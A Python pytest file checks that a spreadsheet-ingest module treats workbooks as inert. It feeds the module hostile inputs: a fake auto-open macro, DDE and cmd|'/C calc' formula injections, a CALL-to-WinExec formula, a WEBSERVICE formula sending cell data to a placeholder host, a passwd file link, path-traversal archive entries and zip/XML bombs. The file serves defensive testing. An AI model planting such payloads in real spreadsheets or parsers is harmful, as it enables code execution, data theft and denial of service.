"""What a workbook carries besides its values does nothing: no program runs, no file or address is opened."""

import os
import socket
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pytest

from vbq.ingest.files import Settings, read_sheet
from vbq.ingest.files.workbook import sheet_names
from vbq.problems import Problems

MOST_MEMORY = 1000  # MB, for whatever a workbook unpacks to
SHEET = "xl/worksheets/sheet1.xml"
CONTENT_TYPES = "[Content_Types].xml"
TEXTS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
MACROS = "application/vnd.ms-office.vbaProject"
ROWS = [["id", "age", "note"], ["a", 60, "x"], ["b", 61, "y"]]


def workbook(path: Path, rows=ROWS) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def change(path: Path, parts: dict[str, object]) -> None:
    """Write a workbook again: a part's new text, or a function of the old, by name; new parts are added."""
    with zipfile.ZipFile(path) as old:
        whole = {name: old.read(name) for name in old.namelist()}
    for name, new in parts.items():
        whole[name] = new(whole[name].decode()).encode() if callable(new) else new
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in whole.items():
            written.writestr(name, content)


def read(path: Path, keep=None, **settings):
    problems = Problems()
    return read_sheet(path, path.name, Settings(**settings), keep, problems), problems.sorted()


@pytest.fixture
def nothing_happens(tmp_path, monkeypatch):
    """Fail where a program is started, an address is opened or a file is written."""

    def refuse(*arguments, **named):
        raise AssertionError("a workbook made something happen")

    for module, name in ((socket, "socket"), (subprocess, "Popen"), (os, "system"), (os, "startfile")):
        monkeypatch.setattr(module, name, refuse, raising=False)
    yield
    assert {path.suffix for path in tmp_path.rglob("*")} <= {".xlsx", ".xlsm"}


def with_formula(formula: str, stored: str = ""):
    """Return what puts a formula, and its stored value, into the first age."""
    return lambda sheet: sheet.replace('<c r="B2" t="n"><v>60</v>', f'<c r="B2"><f>{formula}</f>{stored}')


def test_macros_are_not_run(tmp_path, nothing_happens):
    path = workbook(tmp_path / "a.xlsm")
    macros = f'<Override PartName="/xl/vbaProject.bin" ContentType="{MACROS}"/></Types>'
    change(
        path,
        {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open Shell calc" * 50,
            CONTENT_TYPES: lambda text: text.replace("</Types>", macros).replace(
                "openxmlformats-officedocument.spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main"
            ),
        },
    )
    sheet, problems = read(path)
    assert sheet.frame["age"].tolist() == ["60", "61"]
    assert problems == []


FORMULAS = [
    "'[1]Sheet1'!$A$1",
    "'file:///etc/[passwd]Sheet1'!A1",
    "WEBSERVICE(&quot;http://example.invalid/?x=&quot;&amp;A2)",
    "HYPERLINK(&quot;http://example.invalid&quot;, &quot;60&quot;)",
    "cmd|'/C calc'!A0",
    "DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)",
    "CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
    "INDIRECT(&quot;A&quot;&amp;1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_counts_with_its_stored_value_and_is_not_computed(tmp_path, nothing_happens, formula):
    path = workbook(tmp_path / "a.xlsx")
    change(path, {SHEET: with_formula(formula, "<v>62</v>")})
    sheet, problems = read(path)
    assert sheet.frame["age"].tolist() == ["62", "61"]
    assert problems == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_without_a_stored_value_is_refused_and_not_shown(tmp_path, nothing_happens, formula):
    path = workbook(tmp_path / "a.xlsx")
    change(path, {SHEET: with_formula(formula)})
    sheet, [problem] = read(path)
    assert (problem.rule, problem.row, problem.column) == ("formula without a value", 2, "age")
    assert "62" not in str(problem)
    assert "calc" not in str(problem)
    assert sheet.frame["age"].tolist() == ["", "61"]


def test_formulas_of_whole_ranges_and_shared_ones(tmp_path):
    path = workbook(tmp_path / "a.xlsx")
    shared = '<c r="B2"><f t="shared" ref="B2:B3" si="0">1+1</f><v>60</v></c>'
    array = '<c r="B3"><f t="array" ref="B3">SUM(A1:A2)</f></c>'
    change(
        path,
        {
            SHEET: lambda sheet: sheet.replace('<c r="B2" t="n"><v>60</v></c>', shared).replace(
                '<c r="B3" t="n"><v>61</v></c>', array
            )
        },
    )
    sheet, [problem] = read(path)
    assert (problem.rule, problem.row, problem.column) == ("formula without a value", 3, "age")
    assert sheet.frame["age"].tolist() == ["60", ""]


def test_links_to_other_files_and_addresses_are_not_followed(tmp_path, nothing_happens):
    path = workbook(tmp_path / "a.xlsx")
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    target = 'Target="http://example.invalid/x.xlsx" TargetMode="External"'
    relation = f'<Relationship Id="rId9" Type="{kind}/externalLinkPath" {target}/>'
    link = f'<Relationship Id="rId99" Type="{kind}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    book = f'<externalLink xmlns="{main}"><externalBook xmlns:r="{kind}" r:id="rId9"/></externalLink>'
    dde = f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    for content in (book, dde):
        change(
            path,
            {
                "xl/externalLinks/externalLink1.xml": content.encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": (
                    f'<Relationships xmlns="{relations}">{relation}</Relationships>'.encode()
                ),
                "xl/connections.xml": f'<connections xmlns="{main}"/>'.encode(),
                "xl/_rels/workbook.xml.rels": lambda text, link=link: text.replace(
                    "</Relationships>", f"{link}</Relationships>"
                ),
            },
        )
        sheet, problems = read(path)
        assert sheet.frame["age"].tolist() == ["60", "61"]
        assert problems == []


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_read_only_where_it_is_asked_for(tmp_path, state):
    path = workbook(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    other = book.create_sheet("names")
    for row in (["id", "name"], ["a", "Zwackelmann"]):
        other.append(row)
    other.sheet_state = state
    book.save(path)
    sheet, problems = read(path)
    assert (sheet.headings, problems) == (("id", "age", "note"), [])
    assert sheet_names(path) == ["Sheet"]
    assert read(path, sheet="names")[0].headings == ("id", "name")


def test_comments_and_cells_out_of_sight_reach_no_message(tmp_path):
    path = workbook(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    book.active["B2"].comment = openpyxl.comments.Comment("Zwackelmann", "Zwackelmann")
    book.active.column_dimensions["C"].hidden = True
    book.active["C3"] = "Zwackelmann"
    book.properties.creator = "Zwackelmann"
    book.save(path)
    sheet, problems = read(path, keep={"id", "age"})
    assert sheet.frame["age"].tolist() == ["60", "61"]
    assert "Zwackelmann" not in "".join(map(str, problems))


def test_names_of_parts_that_lead_elsewhere_write_nothing(tmp_path, nothing_happens):
    path = workbook(tmp_path / "a.xlsx")
    change(path, {"../../outside.xml": b"<x/>", "/absolute.xml": b"<x/>"})
    before = set(tmp_path.parent.rglob("*"))
    read(path)
    assert set(tmp_path.parent.rglob("*")) == before


def test_an_encrypted_part_is_refused(tmp_path):
    path = workbook(tmp_path / "a.xlsx")
    content = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    path.write_bytes(content)
    assert [problem.rule for problem in read(path)[1]] == ["not readable"]


def test_a_directory_that_promises_less_than_there_is(tmp_path):
    """A part's size in the archive's directory is not believed, nor is more read than that."""
    path = workbook(tmp_path / "a.xlsx")
    change(path, {"xl/more.xml": b" " * 30_000_000})
    content = path.read_bytes().replace((30_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    path.write_bytes(content)
    assert [problem.rule for problem in read(path)[1]] == ["not readable"]


def cells(number: int) -> str:
    return "<row>" + "<c/>" * number + "</row>"


BOMBS = {
    "twelve million blank cells": {
        SHEET: lambda sheet: sheet.replace("</row>", "</row>" + cells(6000) * 2000, 1)
    },
    "two million numbers": {
        SHEET: lambda sheet: sheet.replace(
            "</row>", "</row>" + ("<row>" + "<c><v>1</v></c>" * 100 + "</row>") * 20_000, 1
        )
    },
    "one cell merged over the sheet": {
        SHEET: lambda sheet: sheet.replace(
            "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A5:XFD1048576"/></mergeCells>'
        )
    },
    "a column merged to its end": {
        SHEET: lambda sheet: sheet.replace(
            "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A5:C1048576"/></mergeCells>'
        )
    },
    "many texts": {
        "xl/sharedStrings.xml": b"<sst>" + b"<si><t>x</t></si>" * 3_000_000 + b"</sst>",
        CONTENT_TYPES: lambda text: text.replace(
            "</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{TEXTS}"/></Types>'
        ),
    },
    "many styles": {
        "xl/styles.xml": lambda text: text.replace("</cellXfs>", "<xf/>" * 3_000_000 + "</cellXfs>")
    },
    "many sheets": {
        "xl/workbook.xml": lambda text: text.replace(
            "</sheets>",
            "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2, 20_000))
            + "</sheets>",
        )
    },
    "nested elements": {SHEET: lambda sheet: sheet.replace("<sheetData>", "<x>" * 1_000_000 + "<sheetData>")},
    "a long attribute": {SHEET: lambda sheet: sheet.replace('r="A1"', f'r="{"A" * 20_000_000}1"', 1)},
}


@pytest.mark.parametrize("kind", BOMBS)
def test_what_unpacks_to_very_much_takes_little_memory_and_time(tmp_path, kind):
    path = workbook(tmp_path / "a.xlsx")
    change(path, BOMBS[kind])
    code = """
        import resource, sys
        from pathlib import Path
        from vbq.ingest.files import Settings, read_sheet
        from vbq.problems import Problems
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))
        resource.setrlimit(resource.RLIMIT_CPU, (30, 30))  # seconds of its own, whatever else runs
        problems = Problems()
        read_sheet(Path(sys.argv[1]), "a.xlsx", Settings(), None, problems)
        print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, *problems.sorted())
    """
    command = [sys.executable, "-c", textwrap.dedent(code), str(path)]
    one_thread = {**os.environ, "OPENBLAS_NUM_THREADS": "1"}  # each would take of the memory
    told = subprocess.run(command, env=one_thread, capture_output=True, text=True, check=False)
    assert told.returncode == 0, told.stderr[-500:]
    assert int(told.stdout.split()[0]) < MOST_MEMORY, told.stdout
